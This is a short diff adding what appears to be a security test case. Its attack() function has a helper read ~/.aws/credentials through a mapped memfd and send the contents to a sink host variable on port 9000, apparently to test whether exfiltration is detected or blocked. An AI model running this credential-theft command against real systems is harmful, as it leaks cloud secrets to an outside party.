@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="a mapped memfd, mapped before the secret is read"
+attack() { "$PROVOKE/shm" memfd "$HOME/.aws/credentials" "$SINK4" 9000; }
